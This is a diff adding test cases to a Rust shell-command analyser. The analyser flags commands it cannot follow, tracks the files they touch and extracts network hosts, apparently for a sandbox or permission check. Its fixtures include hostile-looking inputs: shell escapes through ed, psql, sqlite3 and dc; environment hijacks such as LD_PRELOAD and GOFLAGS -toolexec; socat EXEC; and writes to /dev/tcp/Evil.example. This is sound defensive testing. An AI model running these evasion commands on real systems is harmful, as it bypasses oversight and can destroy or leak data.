@@ -56,6 +56,12 @@ fn programs_that_run_others() {
     runs("bash build.sh; python3 -m pytest -q; python3 x.py -c; node x.js", &["bash", "node", "python3"]);
     runs("sed -n '1,5p' f; awk '{print $1}' f", &["awk", "sed"]);
     runs("GIT_PAGER=cat git log", &["git"]);
+    runs("git log -c; git add $x; git commit -m \"$(a)\"", &["a", "git"]);
+    runs("make -j$(nproc) all; tar -xzf \"$x\" -C \"$y\"", &["make", "nproc", "tar"]);
+    runs("flock l a; xargs --max-lines b; python3 -u x.py -c", &["a", "b", "flock", "python3", "xargs"]);
+    runs("npm run build; npm install; ip addr", &["ip", "npm"]);
+    runs("[ $# -gt 0 ] && [ $? -eq 0 ] && i=0 && [ $i -lt 3 ]", &["["]);
+    runs("sleep 1 & wait $!; wait; jobs -l; history 10", &["history", "jobs", "sleep", "wait"]);
 }
 
 /// Checks what could not be followed.
@@ -71,7 +77,9 @@ fn what_cannot_be_told_is_said() {
     is("eval \"$x\"", Opaque::Eval);
     is("echo ${x@P}", Opaque::Eval);
     is("source x; . y", Opaque::Source);
-    for command in ["$x", "\"$x\" y", "$(a) b", "r* x", "{a,b}", "xargs -I{} {} x", "sudo $x", "`a`"] {
+    for command in
+        ["time -- a", "$x", "\"$x\" y", "$(a) b", "r* x", "{a,b}", "xargs -I{} {} x", "sudo $x", "`a`"]
+    {
         let found = of(command).opaque;
         assert!(matches!(found.as_slice(), [Opaque::Program | Opaque::Wrapper]), "{command}: {found:?}");
     }
@@ -86,9 +94,22 @@ fn what_cannot_be_told_is_said() {
         "zsh -c a",
         "bash /dev/stdin",
         "bash $x",
+        "ksh -c a",
+        "bash //dev/stdin",
+        "cd /dev; bash stdin",
+        "cd $x; bash stdin",
+        "bash -o keyword -c a",
+        "sh -c 'a &>x b'",
+        "sh -c 'pushd x; rm y'",
+        "sh -c \"bash -c a; [[ a ]]\"",
     ] {
         is(command, Opaque::Shell);
     }
+}
+
+#[test]
+fn what_is_written_for_another_language_is_said() {
+    let is = |command: &str, why: Opaque| is_opaque(command, &[why]);
     for command in [
         "python3 -c 'x'",
         "node -e x",
@@ -100,6 +121,31 @@ fn what_cannot_be_told_is_said() {
         "awk 'BEGIN{system(\"a\")}'",
         "sed s/a/b/e f",
         "python3 /dev/stdin",
+        "python3 //dev/stdin",
+        "cd /dev; python3 stdin",
+        "python3 -W ignore -c x",
+        "python3 -m timeit x",
+        "python3 -mtimeit x",
+        "python3 -Im timeit x",
+        "python3 -i x.py",
+        "perl '-Mstrict;system(1)' x",
+        "ruby -I lib -e x",
+        "julia -e x",
+        "awk -f - f",
+        "awk -f /dev/stdin",
+        "awk -f/dev/stdin",
+        "awk -f $x",
+        "gawk -l filefuncs 1",
+        "gawk -E x",
+        "sed -f - f",
+        "sed --fi=- f",
+        "ed x",
+        "ed <<< '!rm x'",
+        "vim.basic -u x",
+        "nvim x",
+        "psql -c '\\! a'",
+        "sqlite3 x '.shell a'",
+        "dc -e '!a'",
     ] {
         is(command, Opaque::Interpreter);
     }
@@ -117,6 +163,10 @@ fn what_changes_the_rest_is_said() {
         "export $x",
         "PS4='$(a)'",
         "GIT_SSH_COMMAND=x git fetch",
+        "GIT_ALLOW_PROTOCOL=ext git fetch",
+        "LUA_INIT=x lua y",
+        "export VIMINIT=x",
+        "env GOFLAGS=-toolexec=x go build",
     ] {
         is(command, Opaque::Environment);
     }
@@ -128,6 +178,9 @@ fn what_changes_the_rest_is_said() {
         "trap \"$x\" EXIT",
         "hash -p /x a",
         "set $x",
+        "jobs -x a",
+        "jobs $x",
+        "history -w x",
     ] {
         is(command, Opaque::Builtin);
     }
@@ -145,6 +198,15 @@ fn what_changes_the_rest_is_said() {
         "declare -i x=y",
         "unset 'a[b]'",
         "[ $x = y ]",
+        "wait -p x",
+        "wait $x",
+        "[ \"-$x\" a[1] ]",
+        "printf \"-$x\" y",
+        "declare -a 'x=(a)'",
+        "read -ax; echo $((x))",
+        "x=1; mapfile x; echo $((x))",
+        "IFS=0; [ $? -eq 0 ]",
+        "i=a; [ $i -lt 3 ]",
     ] {
         is(command, Opaque::Arithmetic);
     }
@@ -170,6 +232,30 @@ fn what_runs_elsewhere_or_in_unknown_ways_is_said() {
         "env $x",
         "ld-linux-x86-64.so.2 ./a",
         "find . -exec a {} ';' -exec b {} ';'",
+        "flock l -c 'rm x'",
+        "strace -o '|rm x' a",
+        "strace -E LD_PRELOAD=x a",
+        "chroot /mnt",
+        "chroot /mnt rm /etc/x",
+        "time_=1 command time -o x a",
+        "git clone --upload-p='a' b",
+        "git rebase -ix a",
+        "x='-c alias.y=!a'; git $x y",
+        "tar -xf a \"$x\"",
+        "tar cIf a b",
+        "make -f - <<< x",
+        "make -f/dev/stdin",
+        "make -j $x",
+        "npx a",
+        "npm exec a",
+        "npm $x",
+        "uv run a",
+        "ip netns exec a b",
+        "nix-shell --run a",
+        "sshpass -p x a",
+        "rg --pre a b",
+        "sort --compress-program=a b",
+        "socat - EXEC:a",
     ] {
         is(command, Opaque::Wrapper);
     }
@@ -216,7 +302,7 @@ fn what_may_use_more_is_said() {
             "cat a | sort -u -o b; tail -20 c | head -n5",
             "sudo -u ada timeout 5 env A=b cat x",
             "find . -name '*.o' -mtime -5 -delete",
-            "bash -c 'rm x'",
+            "bash -c 'rm x'; sh -ec 'rm x'",
             "sed -n 1,5p x; sed -Ei s/a/b/ y",
             "rm build/*.o",
             "dd if=a of=b bs=1M",
@@ -233,8 +319,17 @@ fn what_may_use_more_is_said() {
         "history -w x",
         "make",
         "bash x.sh",
+        "bash -lc 'rm x'",
+        "bash -c 'cat < x; \"$y\"'",
+        "sh -c '[[ x ]]'",
+        "zsh -c 'rm x'",
         "python3 x.py",
         "node x.js",
+        "vim x",
+        "sort --compress-prog=x y",
+        "rg --pre x y",
+        "install --strip-prog=x -s y z",
+        "chroot /x rm /y",
         "ls $x",
         "rm *.o",
         "sort -T /x y",
@@ -336,6 +431,20 @@ fn places() {
     );
     files("curl -o /a https://x/y", &[], &["/a"]);
     files("HOME=/x; rm ~/y", &[], &["?"]);
+    files("export HO''ME=/x; rm ~/y", &[], &["?"]);
+    files("env HO''ME=/x a; rm ~/y", &[], &["?"]);
+    files("rm ~/y; read HOME", &[], &["?"]);
+    files("rm ~/y; unset HOME", &[], &["?"]);
+    files("rm ~/y; : ${HOME:=x}", &[], &["?"]);
+    files("rm $PWD/y; PWD=x", &[], &["?"]);
+    files("env -i bash -c 'rm $HOME/y'; rm ~/z", &[], &["/home/ada/z", "?"]);
+    files("sudo -u bob sh -c 'cat ~/x'; sudo cat ~/z", &["/home/ada/z", "?"], &[]);
+    files("while IFS= read -r x; do rm ~/y; done", &[], &["/home/ada/y"]);
+    files("trap 'cd /x' DEBUG; rm y", &[], &["?"]);
+    files("for i in 1 2; do rm x; f() { cd /y; }; f; done", &[], &["?"]);
+    files("rm y; cd() { a; }", &[], &["?"]);
+    files("flock l a; bash x.sh ../y; python3 x.py /z b/c", &["/ws/p/x.py", "/ws/p/x.sh"], &["/ws/p/l"]);
+    assert_eq!(of("find /x -execdir rm y ';'; rm z").writes, [Place::At("/ws/p/z".into()), Place::Unknown]);
     files("cat > >(tee a)", &[], &["/ws/p/a"]);
 }
 
@@ -357,6 +466,10 @@ fn what_is_touched() {
     check("foo ../x /etc/$x", &["/ws/x", "?"]);
     check("cargo install --root /usr x", &["/usr"]);
     check("tar -C / -xf x.tar", &["/"]);
+    check("bash -c a ../x /y", &["/ws/x", "/y"]);
+    let script = of("bash x.sh ../y; python3 x.py /z b/c");
+    let touched = ["/ws/p/b/c", "/ws/y", "/z"].map(|path| Place::At(path.into()));
+    assert_eq!(script.touches, touched);
     // Nothing of this looks like one.
     check("foo --help -x y a=b --c=d $z -o/etc/x https://a/b --url=https://a/b", &[]);
     check("foo > /dev/null", &[]);
@@ -379,6 +492,11 @@ fn hosts() {
     check("rsync -a x/ h:/y", &["h"]);
     check("nc -w 1 h 80 > /dev/tcp/i/80", &["h", "i"]);
     check("git clone git@github.com:a/b", &["github.com"]);
+    check("p=tcp; exec 3<>/dev/$p/h/80", &["?"]);
+    check("a > $x", &["?"]);
+    check("a > /x/$x", &[]);
+    check("a > /dev/tcp/Evil.example./80 2> /dev/udp/2130706433/80", &["evil.example", "?"]);
+    check("python3 x.py https://h/", &["h"]);
     check("npm config set registry http://r/", &["r"]);
     check("ls", &[]);
     check("ssh -p 22 ada@h ls", &["h"]);
